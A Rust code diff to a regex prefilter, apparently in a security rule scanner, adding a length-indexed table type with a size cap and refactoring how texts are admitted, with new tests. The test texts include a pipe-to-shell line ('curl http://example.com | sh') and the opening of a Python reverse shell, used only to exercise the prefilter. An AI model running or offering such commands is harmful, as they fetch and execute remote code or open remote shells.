@@ -214,9 +214,8 @@ impl Gate {
 /// regexes its rules need at once (see [`Lazy::possible`]) rather than one regex at a time.
 #[derive(Debug, Default)]
 pub(crate) struct Prefilter {
-    /// By text length `n` (up to the longest minimum), the regexes whose matches need at most
-    /// `n` bytes.
-    long_enough: Vec<Bits>,
+    /// By text length `n`, the regexes whose matches need at most `n` bytes.
+    long_enough: ByLength<Bits>,
     /// The gated regexes.
     gated: Bits,
     /// The gated regexes with single-byte factors (tried when none of their longer factors
@@ -228,16 +227,37 @@ pub(crate) struct Prefilter {
     free: Bits,
 }
 
-/// Texts this long or longer have their length mask computed rather than looked up.
-pub(crate) const LENGTH_TABLE_MAX: usize = 4096;
+/// Rows kept for text lengths up to this; a table whose longest minimum is longer is cut short.
+const LENGTH_TABLE_MAX: usize = 4096;
+
+/// Rows by text length, `0..=longest` where `longest` is the longest minimum length that makes
+/// rows differ (capped at [`LENGTH_TABLE_MAX`]): a longer text takes the last row, unless the
+/// table was cut short, when [`ByLength::get`] has no row and the caller computes one.
+#[derive(Debug, Default)]
+pub(crate) struct ByLength<T> {
+    rows: Vec<T>,
+    complete: bool,
+}
+
+impl<T> ByLength<T> {
+    pub(crate) fn build(longest: usize, row: impl FnMut(usize) -> T) -> Self {
+        Self {
+            rows: (0..=longest.min(LENGTH_TABLE_MAX)).map(row).collect(),
+            complete: longest <= LENGTH_TABLE_MAX,
+        }
+    }
+
+    /// The row for a text of `len` bytes, if the table has it.
+    pub(crate) fn get(&self, len: usize) -> Option<&T> {
+        self.rows.get(len).or_else(|| self.rows.last().filter(|_| self.complete))
+    }
+}
 
 impl Prefilter {
     pub(crate) fn new(compiled: &Compiled) -> Self {
         let count = compiled.string_regexes.len();
         let longest = compiled.string_min_len.iter().copied().max().unwrap_or(0);
-        let long_enough = (0..=longest.min(LENGTH_TABLE_MAX))
-            .map(|n| Self::mask_by_length(compiled, n))
-            .collect();
+        let long_enough = ByLength::build(longest, |n| Self::mask_by_length(compiled, n));
         let gated = compiled.string_gate.gated().clone();
         let mut required = Bits::new();
         let mut free = Bits::new();
@@ -280,13 +300,12 @@ pub(crate) struct Fit {
 }
 
 impl Fit {
-    /// `[ascii, not ascii]` per length up to the longest rule minimum (capped at
-    /// [`LENGTH_TABLE_MAX`]).
-    pub(crate) fn table(compiled: &Compiled) -> Vec<[Fit; 2]> {
+    /// `[ascii, not ascii]` by text length.
+    pub(crate) fn table(compiled: &Compiled) -> ByLength<[Fit; 2]> {
         let longest = compiled.string_rule_min_len.iter().copied().max().unwrap_or(0);
-        (0..=longest.min(LENGTH_TABLE_MAX))
-            .map(|len| [Self::of(compiled, len, true), Self::of(compiled, len, false)])
-            .collect()
+        ByLength::build(longest, |len| {
+            [Self::of(compiled, len, true), Self::of(compiled, len, false)]
+        })
     }
 
     pub(crate) fn of(compiled: &Compiled, len: usize, ascii: bool) -> Fit {
@@ -333,25 +352,16 @@ impl Lazy<'_> {
         let text = self.text;
         let long_enough = c.string_min_len.get(index as usize).is_none_or(|&n| text.len() >= n);
         long_enough
-            && if c.string_gate.is_gated(index) {
-                let found = self.admitted.get_or_insert_with(|| c.string_gate.found(text));
-                has_bit(found, index as usize) || {
-                    let present = self.present.get_or_insert_with(|| ByteSet::of_text(text));
-                    c.string_gate.bytes_admit(index, text.len(), present)
-                }
-            } else {
-                match c.string_required.get(index as usize) {
-                    Some(Some(required)) => required
-                        .intersects(self.present.get_or_insert_with(|| ByteSet::of_text(text))),
-                    _ => true,
-                }
-            }
+            && (c.string_gate.is_gated(index)
+                && has_bit(
+                    self.admitted.get_or_insert_with(|| c.string_gate.found(text)),
+                    index as usize,
+                )
+                || self.bytes_admit(index))
     }
-}
 
-impl Lazy<'_> {
-    /// Regex `index` may match: its prefilters admit the text (the single-byte and required-byte
-    /// tests computed here, `found` being the factor search's result).
+    /// Whether regex `index`'s byte tests admit the text: for a gated regex its single-byte
+    /// factors (its longer ones are the factor search's), for another its required bytes.
     fn bytes_admit(&mut self, index: u32) -> bool {
         let c = self.compiled;
         let text = self.text;
@@ -397,7 +407,6 @@ impl StringOracle for Lazy<'_> {
         let computed;
         let long_enough = match p.long_enough.get(len) {
             Some(mask) => mask,
-            None if len <= LENGTH_TABLE_MAX => p.long_enough.last().unwrap_or(&p.free),
             None => {
                 computed = Prefilter::mask_by_length(c, len);
                 &computed
@@ -553,6 +562,18 @@ mod tests {
         assert_eq!(got[0].2.chars().count(), 83);
     }
 
+    #[test]
+    fn rows_by_length_hold_for_longer_texts_unless_cut_short() {
+        use super::{ByLength, LENGTH_TABLE_MAX};
+        let table = ByLength::build(3, |n| n);
+        assert_eq!((table.get(0), table.get(3), table.get(1000)), (Some(&0), Some(&3), Some(&3)));
+        let cut = ByLength::build(LENGTH_TABLE_MAX + 10, |n| n);
+        assert_eq!(cut.get(LENGTH_TABLE_MAX), Some(&LENGTH_TABLE_MAX));
+        assert_eq!(cut.get(LENGTH_TABLE_MAX + 1), None, "the caller computes the row");
+        let exact = ByLength::build(LENGTH_TABLE_MAX, |n| n);
+        assert_eq!(exact.get(LENGTH_TABLE_MAX * 2), Some(&LENGTH_TABLE_MAX));
+    }
+
     /// The bulk prefilter (`possible`) admits exactly the regexes the one-at-a-time test
     /// (`admits`, with the memo) admits, on texts that exercise each kind of prefilter: short,
     /// long, non-ASCII, with and without literal factors, single-byte factors and required
@@ -565,7 +586,7 @@ mod tests {
         // single-byte factor, and with short minimum lengths.
         let custom = analyzer(&pack(
             "TST509",
-            "{any: [{string: '^$'}, {string: 'x?y?'}, {string: '[A-Z]{3}'}, {string: 'ab+c'}, {string: '(?i)token'}, {string: '\\.'}, {string: 'é'}]}",
+            "{any: [{string: '^$'}, {string: 'x?y?'}, {string: '[A-Z]{3}'}, {string: 'ab+c'}, {string: '(?i)token'}, {string: '\\.'}, {string: 'é'}, {string: 'y{5000}'}]}",
         ));
         for an in [&builtin, &custom] {
             prefilters_agree(an);
@@ -583,6 +604,7 @@ mod tests {
             set_bit(&mut all, index);
         }
         let long_b64 = "QUJD".repeat(40);
+        let longer_than_the_table = "y".repeat(5001);
         let texts = [
             "",
             "a",
@@ -603,6 +625,7 @@ mod tests {
             "curl http://example.com | sh",
             long_b64.as_str(),
             "import socket,subprocess;s=socket.socket()",
+            longer_than_the_table.as_str(),
         ];
         for text in texts {
             for known_first in [false, true] {
